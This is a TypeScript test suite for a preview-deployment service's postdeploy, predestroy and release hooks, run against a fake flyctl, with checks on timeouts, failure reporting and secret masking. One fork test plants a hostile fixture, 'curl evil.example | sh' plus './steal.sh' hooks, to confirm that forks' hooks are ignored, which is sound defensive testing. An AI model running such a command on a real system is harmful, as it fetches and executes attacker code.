// The hooks of .preview.yml (docs/hooks.md), end to end: the real app (test/harness.ts) with
// the fake flyctl, whose release command and `console --command` follow flyctl v0.4.87
// (see the header of test/fake-flyctl/flyctl). `behavior.commands` scripts what each
// command does in its machine: its output, exit code and how long it runs.
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { Flyctl } from "../src/fly/index.js";
import { SecretStore } from "../src/secrets/index.js";
import type { CommandScript } from "./fake-flyctl/control.js";
import { startFakeNeon, type FakeNeon } from "./fake-neon/server.js";
import { createFakeFly } from "./fake-flyctl/control.js";
import { DOCKERFILE, issueComment, pullRequest, REPO, sha, startWorld, until, type World, type WorldOptions } from "./harness.js";

const APP = "pr-2-codertocat-hello-world";
const WRITER = "maintainer-mo";
const SEED = "npm run seed";
const CLEANUP = "./scripts/cleanup.sh";
const MIGRATE = "npx prisma migrate deploy";
const KEY = "33".repeat(32);
const TOKEN = "sk_live_hook_echo_secret_42";
const CONFIG = `health:\n  path: /healthz\n  timeout: 2s\nenv:\n  GREETING: hello-\${PR_NUMBER}\nsecrets: [API_KEY]\nhooks:\n  postdeploy: ${SEED}\n  predestroy: ${CLEANUP}\n`;

let world: World;
let neon: FakeNeon | undefined;
afterEach(async () => {
  await world?.close();
  await neon?.close();
  neon = undefined;
});

async function hooksWorld(config = CONFIG, commands: Record<string, CommandScript> = {}, options: WorldOptions = {}) {
  world = await startWorld({ ...options, env: { PREVIEW_SECRETS_KEY: KEY, ...options.env } });
  world.gh.setPermission(REPO, WRITER, "write");
  world.gh.setPull(REPO, 2, { headSha: sha(1) });
  for (const n of [1, 2, 3]) world.commit(sha(n), { Dockerfile: DOCKERFILE, ".preview.yml": config });
  await new SecretStore(world.store.db, Buffer.from(KEY, "hex")).set("Codertocat", "Hello-World", "API_KEY", TOKEN);
  world.fly.setBehavior({ commands });
}

const consoles = () => world.fly.calls().filter((c) => c.argv[0] === "console");
const runsOf = (command: string) => world.fly.oneOffRuns().filter((r) => r.command === command);
const checkOf = (commit: string) => world.gh.checkRuns.filter((c) => c.head_sha === commit).at(-1)!;
const sticky = () => world.comments().find((c) => c.body.includes("<!-- fly-preview -->"))!.body;

async function comment(body: string) {
  await world.deliverEvent("issue_comment", issueComment(body, { user: WRITER }));
  await world.commandsDone();
}

async function push(n: number) {
  world.gh.setPull(REPO, 2, { headSha: sha(n) });
  await world.deliver(pullRequest("synchronize", { sha: sha(n) }));
  return world.settled();
}

/** Everything GitHub and the logs got, as one string. */
function everythingShown(): string {
  return JSON.stringify({ checkRuns: world.gh.checkRuns, comments: world.gh.comments, deployments: world.gh.deployments, logs: world.logs });
}

describe("postdeploy", () => {
  it("runs once, in a one-off machine of the preview's app with its image and env, after the first deploy that is up", async () => {
    await hooksWorld();
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    const row = await world.settled();
    expect(row.status).toBe("ready");
    expect(row.postdeploy_at).not.toBeNull();

    // After the health check passed, never before: the deploy, then the one-off machine.
    const calls = world.fly.calls().map((c) => c.argv[0]);
    expect(calls.lastIndexOf("deploy")).toBeLessThan(calls.indexOf("console"));
    expect(world.healthCalls.length).toBeGreaterThan(0);
    // One argument for the command, no shell on our side; the preview's machine size and region.
    expect(consoles().map((c) => c.argv)).toEqual([
      ["console", "-a", APP, "--command", SEED, "--region", "iad", "--vm-memory", "256", "--vm-cpus", "1", "--vm-cpu-kind", "shared"],
    ]);
    const [run] = runsOf(SEED);
    const deployed = world.fly.apps()[APP].deployments.at(-1)!;
    expect(run.image).toBe(deployed.image);
    // The deployed release's env (the deploy's --env values), as the app's own machines got it.
    expect(run.env.GREETING).toBe("hello-2");
    // The one-off machine is gone once it ran (auto-destroyed).
    expect(world.fly.apps()[APP].machines.map((m) => m.config.metadata?.fly_process_group)).toEqual(["app"]);

    const check = checkOf(sha(1));
    expect(check.conclusion).toBe("success");
    expect(check.output?.summary).toMatch(/postdeploy \(`npm run seed`\) ran in \d+s/);

    // A push deploys again; the preview is seeded already.
    expect((await push(2)).deployed_sha).toBe(sha(2));
    expect(runsOf(SEED)).toHaveLength(1);
    expect(checkOf(sha(2)).output?.summary).not.toContain("postdeploy");
  });

  it("/preview redeploy --fresh builds from source and runs it again; a plain redeploy does neither", async () => {
    await hooksWorld();
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    await world.settled();
    expect(runsOf(SEED)).toHaveLength(1);

    await comment("/preview redeploy");
    await until("the plain redeploy", () => world.deploys().length === 2);
    expect((await world.settled()).status).toBe("ready");
    expect(world.deploys()[1].argv).toContain("--image");
    expect(runsOf(SEED)).toHaveLength(1);

    await comment("/preview redeploy --fresh");
    await until("the fresh redeploy", () => world.deploys().length === 3);
    const row = await world.settled();
    expect(row.status).toBe("ready");
    expect(row.fresh).toBe(0);
    // A build (no registry image reused), then postdeploy once more.
    expect(world.deploys()[2].argv).not.toContain("--image");
    expect(world.fly.apps()[APP].images).toHaveLength(2);
    expect(runsOf(SEED)).toHaveLength(2);
  });

  it("runs again after /preview reset-db", async () => {
    const project = "proud-fog-123456";
    const neonKey = "neon-hooks-key-0123456789";
    neon = await startFakeNeon({ keys: [neonKey], operationMs: 5 });
    neon.addProject(project, { tables: ["users"], rows: ["alice"] });
    await hooksWorld(`${CONFIG}database:\n  neon:\n    project: ${project}\n`, {}, {
      env: { NEON_API_KEY: neonKey, NEON_API_URL: neon.url, PREVIEW_DATABASES: `neon:${project}` },
    });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    expect((await world.settled()).status).toBe("ready");
    expect(runsOf(SEED)).toHaveLength(1);

    await comment("/preview reset-db");
    await until("the redeploy after the reset", () => world.deploys().length === 2);
    const row = await world.settled();
    expect(row.reset_db).toBe(0);
    expect(row.postdeploy_at).not.toBeNull();
    expect(runsOf(SEED)).toHaveLength(2);
  });

  it("a failure fails the check run, keeps the deployment a success, says the preview is up but not seeded, and runs again after the next deploy", async () => {
    await hooksWorld(CONFIG, { [SEED]: { output: ["Seeding users...", `using key ${TOKEN}`, "Error: relation \"users\" does not exist"], exitCode: 2 } });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    const row = await world.settled();
    expect(row.status).toBe("ready");
    expect(row.deployed_sha).toBe(sha(1));
    expect(row.postdeploy_at).toBeNull();
    expect(row.last_error).toBe(`postdeploy (${SEED}) exited with code 2`);

    const check = checkOf(sha(1));
    expect(check.conclusion).toBe("failure");
    expect(check.output?.title).toBe("Preview up, but postdeploy failed");
    expect(check.output?.summary).toContain("The preview is up at https://pr-2-codertocat-hello-world.fly.dev, but not seeded");
    expect(check.output?.summary).toMatch(/postdeploy \(`npm run seed`\) exited with code 2 \(after \d+s\)/);
    // Its output, the secret it echoed hidden.
    expect(check.output?.text).toContain("postdeploy output");
    expect(check.output?.text).toContain('Error: relation "users" does not exist');
    expect(check.output?.text).toContain("using key ***");
    expect(everythingShown()).not.toContain(TOKEN);
    expect(world.gh.deployments.at(-1)!.statuses.at(-1)!.state).toBe("success");
    const body = sticky();
    expect(body).toContain("⚠️ Preview up, but postdeploy failed");
    expect(body).toContain("The preview is up at its URL, but not seeded");
    expect(body).toContain("| **URL** | [https://pr-2-codertocat-hello-world.fly.dev](https://pr-2-codertocat-hello-world.fly.dev) |");

    // Fixed by the next push: it runs again, and this time the preview is seeded.
    world.fly.setBehavior({ commands: {} });
    const next = await push(2);
    expect(next.postdeploy_at).not.toBeNull();
    expect(next.last_error).toBeNull();
    expect(runsOf(SEED)).toHaveLength(2);
    expect(checkOf(sha(2)).conclusion).toBe("success");
    expect(sticky()).toContain("✅ Preview ready");
  });

  it("past hooks.timeout it is stopped, and the check run says so", async () => {
    await hooksWorld(CONFIG.replace("hooks:\n", "hooks:\n  timeout: 1s\n"), { [SEED]: { output: ["seeding forever"], delayMs: 60_000 } });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    const row = await world.settled();
    expect(row.status).toBe("ready");
    expect(row.last_error).toBe(`postdeploy (${SEED}) took longer than hooks.timeout (1s) in .preview.yml and was stopped`);
    expect(checkOf(sha(1)).conclusion).toBe("failure");
    // flyctl was stopped (SIGTERM), not left running.
    const [call] = consoles();
    expect(call.signal).toBe("SIGTERM");
    // Nor its machine: flyctl stopped midway leaves it running `sleep inf`; it is found by
    // its process group and destroyed.
    const destroyed = world.fly.calls().filter((c) => c.argv[0] === "machines" && c.argv[1] === "destroy");
    expect(destroyed).toHaveLength(1);
    expect(destroyed[0].argv).toEqual(["machines", "destroy", expect.stringMatching(/^148e/), "-a", APP, "--force"]);
    const machines = world.fly.apps()[APP].machines;
    expect(machines.filter((m) => (m.config as { metadata?: Record<string, string> }).metadata?.fly_process_group === "fly_app_console")).toEqual([]);
    expect(machines.length).toBeGreaterThan(0);
  });

  it("past hooks.timeout, a machine that cannot be destroyed is named in the reason", async () => {
    await hooksWorld(CONFIG.replace("hooks:\n", "hooks:\n  timeout: 1s\n"), { [SEED]: { delayMs: 60_000 } });
    world.fly.setBehavior({ commands: { [SEED]: { delayMs: 60_000 } }, machines: [{ fail: "auth" }] });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    const row = await world.settled();
    expect(row.status).toBe("ready");
    expect(row.last_error).toBe(
      `postdeploy (${SEED}) took longer than hooks.timeout (1s) in .preview.yml and was stopped; its machine could not be destroyed (You must be authenticated to view this.) and runs until the preview is destroyed`,
    );
    expect(world.fly.apps()[APP].machines.some((m) => (m.config as { metadata?: Record<string, string> }).metadata?.fly_process_group === "fly_app_console")).toBe(true);
  });

  it("one Fly cannot start a machine for fails with flyctl's words", async () => {
    await hooksWorld();
    world.fly.setBehavior({ console: [{ fail: "launch" }] });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    const row = await world.settled();
    expect(row.status).toBe("ready");
    expect(row.last_error).toMatch(/^postdeploy \(npm run seed\) could not run: failed to launch VM: insufficient resources/);
    expect(checkOf(sha(1)).conclusion).toBe("failure");
  });
});

describe("predestroy", () => {
  it("runs before the app is destroyed; its failure is shown in the final comment and never stops the destroy", async () => {
    await hooksWorld(CONFIG, { [CLEANUP]: { output: [`deleting bucket with ${TOKEN}`, "AccessDenied"], exitCode: 1 } });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    await world.settled();

    await world.deliver(pullRequest("closed", { sha: sha(1) }));
    const row = await world.settled();
    expect(row.status).toBe("destroyed");
    expect(world.fly.apps()[APP]).toBeUndefined();
    const calls = world.fly.calls();
    const cleanupAt = calls.findIndex((c) => c.argv[0] === "console" && c.argv.includes(CLEANUP));
    const destroyAt = calls.findIndex((c) => c.argv[0] === "apps" && c.argv[1] === "destroy");
    expect(cleanupAt).toBeGreaterThan(-1);
    expect(cleanupAt).toBeLessThan(destroyAt);
    const body = sticky();
    expect(body).toContain("🗑️ Preview destroyed");
    expect(body).toMatch(/The cleanup before the destroy failed: predestroy \(`\.\/scripts\/cleanup\.sh`\) exited with code 1 \(after \d+s\)\. The app was destroyed anyway\./);
    const warned = world.logs.find((l) => l.msg === "predestroy failed: destroying the app anyway");
    expect(JSON.stringify(warned)).toContain("deleting bucket with ***");
    expect(everythingShown()).not.toContain(TOKEN);
    expect(row.predestroy_hook).toBeNull();
    expect(row.postdeploy_at).toBeNull();
  });

  it("past hooks.timeout it is stopped and the app is destroyed", async () => {
    await hooksWorld(CONFIG.replace("hooks:\n", "hooks:\n  timeout: 1s\n"), { [CLEANUP]: { delayMs: 60_000 } });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    await world.settled();
    await world.deliver(pullRequest("closed", { sha: sha(1) }));
    expect((await world.settled()).status).toBe("destroyed");
    expect(world.fly.apps()[APP]).toBeUndefined();
    expect(sticky()).toContain("took longer than hooks.timeout \\(1s\\)");
  });

  it("is the command of the last deploy that was up, and is skipped for an app that never was", async () => {
    await hooksWorld(CONFIG.replace(`predestroy: ${CLEANUP}`, "predestroy: ./old-cleanup"));
    world.commit(sha(2), { Dockerfile: DOCKERFILE, ".preview.yml": CONFIG });
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    await world.settled();
    // sha(2) names another predestroy, but its build fails: the old image still serves.
    world.fly.setBehavior({ deploy: [{ fail: "build" }] });
    expect((await push(2)).deployed_sha).toBe(sha(1));
    await world.deliver(pullRequest("closed", { sha: sha(2) }));
    await world.settled();
    expect(world.fly.oneOffRuns().map((r) => r.command)).toEqual([SEED, "./old-cleanup"]);

    // Another pull request whose first deploy failed: no image, nothing to clean up.
    world.fly.setBehavior({ deploy: [{ fail: "build" }] });
    world.gh.setPull(REPO, 3, { headSha: sha(3) });
    await world.deliver(pullRequest("opened", { sha: sha(3), number: 3 }));
    expect((await world.settled(3)).status).toBe("failed");
    await world.deliver(pullRequest("closed", { sha: sha(3), number: 3 }));
    expect((await world.settled(3)).status).toBe("destroyed");
    expect(world.fly.oneOffRuns()).toHaveLength(2);
  });
});

describe("release", () => {
  it("becomes the deploy's release_command; when it fails the previous version keeps serving and the check run shows its output", async () => {
    const config = `${CONFIG}  release: ${MIGRATE}\n`;
    await hooksWorld(config);
    await world.deliver(pullRequest("opened", { sha: sha(1) }));
    expect((await world.settled()).status).toBe("ready");
    const serving = world.fly.apps()[APP].machines[0].config.image;

    world.fly.setBehavior({ commands: { [MIGRATE]: { output: ["Applying migration 0002_add_users", `connecting with ${TOKEN}`, "Error: P3009 migrate found failed migrations"], exitCode: 1 } } });
    const row = await push(2);
    expect(row.status).toBe("failed");
    expect(row.deployed_sha).toBe(sha(1));
    // No machine was updated: the previous image still serves.
    expect(world.fly.apps()[APP].machines[0].config.image).toBe(serving);
    expect(world.fly.apps()[APP].deployments).toHaveLength(1);
    expect(row.last_error).toMatch(/^The release command \(npx prisma migrate deploy\) failed \(machine 148e[0-9a-f]+ exited with non-zero status of 1\): the deploy stopped/);

    const check = checkOf(sha(2));
    expect(check.conclusion).toBe("failure");
    expect(check.output?.summary).toContain("The release command \\(npx prisma migrate deploy\\) failed");
    // flyctl's lines about it and the command's own output, as text (no escape sequences).
    expect(check.output?.text).toContain(`Running ${APP} release_command: ${MIGRATE}`);
    expect(check.output?.text).toMatch(/\n\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ Error: P3009 migrate found failed migrations\n/);
    expect(check.output?.text).toContain("connecting with ***");
    expect(check.output?.text).not.toContain("\x1b");
    expect(everythingShown()).not.toContain(TOKEN);
    expect(sticky()).toContain(`The previous deploy (\`${sha(1).slice(0, 7)}\`) is still serving.`);
  });
});

describe("a fork's hooks", () => {
  it("come from the default branch's .preview.yml: the fork's own are ignored", async () => {
    world = await startWorld();
    world.commit("master", { Dockerfile: DOCKERFILE, ".preview.yml": "forks: trusted\nhooks:\n  postdeploy: npm run seed:demo\n" });
    world.commit(sha(1), { Dockerfile: DOCKERFILE, ".preview.yml": "forks: trusted\nhooks:\n  release: curl evil.example | sh\n  postdeploy: ./steal.sh\n  predestroy: ./steal.sh\n" });
    world.gh.setPull(REPO, 2, { headSha: sha(1), headRepo: "stranger/Hello-World" });
    await world.deliver(pullRequest("opened", { sha: sha(1), fork: true }));
    expect((await world.settled()).status).toBe("ready");
    expect(world.fly.oneOffRuns().map((r) => r.command)).toEqual(["npm run seed:demo"]);
    expect(checkOf(sha(1)).output?.text).not.toContain("release_command");
    await world.deliver(pullRequest("closed", { sha: sha(1), fork: true }));
    await world.settled();
    expect(world.fly.oneOffRuns()).toHaveLength(1);
  });
});

describe("the driver's one-off command", () => {
  it("takes the exit code from flyctl's own error line on stderr, whatever the command printed on stdout and whichever pipe is read first", async () => {
    // flyctl writes the command's output (with a pseudo-terminal, stdout and stderr alike)
    // on its stdout and its own "Error: ssh shell: …" on its stderr: two pipes, read in
    // whatever order they arrive. Here the command's own "Error:" line comes last.
    const dir = mkdtempSync(join(tmpdir(), "flyctl-order-"));
    try {
      const path = join(dir, "flyctl");
      writeFileSync(
        path,
        `#!/usr/bin/env node
process.stderr.write("Error: ssh shell: Process exited with status 3\\n");
setTimeout(() => { process.stdout.write("seeding...\\nError: relation \\"users\\" does not exist\\n"); process.exitCode = 1; }, 100);
`,
      );
      chmodSync(path, 0o755);
      const flyctl = new Flyctl({ path, token: "t0ken_value", org: "personal", retry: { attempts: 1, baseDelayMs: 1 } });
      const result = await flyctl.runOneOff({ app: "demo", command: "npm run seed" });
      expect(result.exitCode).toBe(3);
      expect(result.tail).toContain('Error: relation "users" does not exist');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("returns the command's exit code and output, and fails for an app that was never released", async () => {
    const fly = await createFakeFly();
    try {
      const flyctl = new Flyctl({ path: fly.path, token: "t0ken_value", org: "personal", retry: { attempts: 3, baseDelayMs: 1 } });
      await flyctl.createApp("demo");
      await expect(flyctl.runOneOff({ app: "demo", command: "true" })).rejects.toMatchObject({
        detail: "can't create an ephemeral console machine since the app has not yet been released",
      });
      await expect(flyctl.runOneOff({ app: "gone", command: "true" })).rejects.toMatchObject({ kind: "not_found" });
      // Never retried, even for a passing failure: the command may have run.
      fly.setBehavior({ console: [{ fail: "transient" }] });
      await expect(flyctl.runOneOff({ app: "demo", command: "true" })).rejects.toMatchObject({ kind: "transient" });
      expect(fly.calls().filter((c) => c.argv[0] === "console")).toHaveLength(3);
    } finally {
      await fly.cleanup();
    }
  });
});
